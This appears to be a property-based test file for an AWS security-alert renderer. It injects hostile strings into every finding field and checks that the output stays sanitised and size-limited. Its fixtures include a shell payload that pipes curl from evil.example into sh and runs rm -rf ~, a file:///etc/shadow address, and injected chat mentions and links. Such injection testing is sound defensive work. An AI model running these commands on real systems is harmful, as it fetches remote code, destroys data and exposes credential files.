import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { Finding } from '#lib/findings/finding.ts'
import { renderAlert } from '#lib/report/alert/render-alert.ts'
import { bucketPublic, owed, synFlood, trailStopped } from '../example-findings.ts'

const hostile: readonly (readonly [string, string])[] = [
  ['ANSI escapes', '\u001b[2J\u001b[31mALL CLEAR\u001b[0m'],
  ['C1 control sequence', '\u009b31mred'],
  ['bidi override', 'user\u202egnp.exe'],
  ['zero width and tags', 'ad\u200bmin\u{e0041}\u{e0042}'],
  ['NUL', 'a\u0000b'],
  ['line breaks', 'x\r\nSeverity: low\nBcc: all@example.com\u2028y\u2029z'],
  ['a chat mention', '<!channel> <@U012345> <#C012|general> @channel @here'],
  ['a chat link', '<https://evil.example|AWS console>'],
  ['backticks', '```\n*bold* `code` _x_'],
  ['quotes', `it's "quoted" \\ twice''""`],
  ['shell', '$(curl evil.example|sh); `id` && rm -rf ~ > /dev/null #'],
  ['an option', '--profile=admin'],
  ['a file address', 'file:///etc/shadow'],
  ['emoji', '👩‍👩‍👧‍👦🔥é漢字'],
  ['lone surrogates', 'a\ud800b\udc00c'],
  ['non-characters', 'a\uffffb\ufffec'],
  ['a placeholder', '{{account}} {{resource}}'],
  ['a prototype', '__proto__'],
  ['ten thousand characters', 'A'.repeat(10_000)],
  ['ten thousand emoji', '🔥'.repeat(10_000)],
  ['ten thousand angle brackets', '<'.repeat(10_000)],
  ['ten thousand controls', '\u0000'.repeat(10_000)],
  ['ten thousand backslashes', '\\'.repeat(10_000)],
  ['nothing', ''],
]

/** The same foreign text wherever text of an account or of a log can stand. */
function everywhere(text: string): readonly Finding[] {
  const resource = { arn: `arn:aws:iam::111122223333:user/${text}`, type: text || 'AWS::IAM::User', account: text, region: text }
  const facts = Object.fromEntries([
    ...['eventName', 'eventSource', 'userAgent', 'errorCode', 'trailName', 'roleName', 'accessKeyId'].map((name) => [name, text]),
    [text, text],
    ['__proto__', text],
  ])
  const runbook = {
    triage: ['Ask {{principalName}} about {{trailName}}.', text],
    containment: [
      'aws iam delete-user --user-name {{trailName}}',
      "Quoted: `aws iam delete-user --user-name '{{trailName}}'`",
      'aws logs put --tags Key=a,Value={{trailName}}',
      text,
    ],
    recovery: [text],
  }
  const shared = { title: text, control: text, resource, account: text, region: text }
  return [
    { ...trailStopped, ...shared, principal: text, sourceAddress: text, facts, runbook, attack: [text], earliest: [{ id: text, time: 0 }] },
    {
      ...synFlood,
      ...shared,
      network: { vector: text, target: text, sources: [{ address: text, packets: 1 }], baseline: null, observed: 2 },
    },
    {
      ...bucketPublic,
      ...shared,
      reason: text,
      remediation: `${text} aws s3 rm {{resourceName}}`,
      evidence: { [text]: text, nested: [[text]] },
    },
  ]
}

/** No line break but our own, nothing invisible, nothing half. */
const unsafeInText = /[[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]--[\n]]/v

function check(finding: Finding): void {
  const rendered = renderAlert(finding, owed('opened'))
  expect(rendered).toEqual(renderAlert(structuredClone(finding), owed('opened')))

  expect(rendered.subject).toMatch(/^[A-Za-z][\x20-\x7e]{0,98}$/)
  expect(rendered.subject).toMatch(/^ALARM: /)

  expect(Buffer.byteLength(rendered.text)).toBeLessThanOrEqual(8_000)
  expect(rendered.text).not.toMatch(unsafeInText)
  expect(rendered.text).toContain(`${finding.severity.toUpperCase()}:`)

  expect(Buffer.byteLength(rendered.machine)).toBeLessThanOrEqual(60_000)
  expect(rendered.machine).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u)
  const machine = JSON.parse(rendered.machine)
  expect(machine).toMatchObject({ schema: 'keepwatch.alert.v1', alertId: owed('opened').id, findingId: finding.id, NewStateValue: 'ALARM' })

  expect(Buffer.byteLength(rendered.chat)).toBeLessThanOrEqual(10_000)
  const chat = JSON.parse(rendered.chat)
  expect(chat.content.title.length).toBeLessThanOrEqual(250 * 5)
  expect(chat.content.description.length).toBeLessThanOrEqual(8_000)
  for (const text of [chat.content.title, chat.content.description, chat.metadata.summary, ...(chat.content.nextSteps ?? [])]) {
    // The only angle bracket that is ours is the link to CloudTrail's console.
    expect(text.replace(/<https:\/\/[a-z0-9.-]+\.amazon\.com\/[^|<>\s]*\|First event in CloudTrail>/, '')).not.toMatch(/[<>]/)
    expect(text).not.toMatch(unsafeInText)
  }

  expect(Object.keys(rendered.attributes).length).toBeLessThanOrEqual(10)
  for (const { DataType, StringValue } of Object.values(rendered.attributes)) {
    expect(StringValue).not.toBe('')
    expect(StringValue).not.toMatch(/[\p{Cc}\p{Cs}]/u)
    expect(['String', 'Number']).toContain(DataType)
  }
}

describe('foreign text in every place of a finding', () => {
  test.each(hostile)('%s', (_, text) => {
    for (const finding of everywhere(text)) check(finding)
  })

  test('any text at all', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (text) => {
        for (const finding of everywhere(text)) check(finding)
      }),
      { numRuns: 25 },
    )
  })
})

test('everything at its largest still fits, and says that it was shortened', () => {
  const big = '"\u202e\\'.repeat(4_000)
  const [monitoring] = everywhere(big)
  if (monitoring?.kind !== 'monitoring') throw new Error('wanted the monitoring finding first')
  const many = Array.from({ length: 100 }, (_, index) => `${big}${index}`)
  const finding: Finding = {
    ...monitoring,
    facts: Object.fromEntries(many.map((text, index) => [`fact${index}${text}`, text])),
    runbook: { triage: many, containment: many, recovery: many },
    earliest: many.map((id, time) => ({ id, time })),
    attack: many,
  }
  check(finding)
  expect(JSON.parse(renderAlert(finding, owed('opened')).machine).truncated).toBe(true)
})
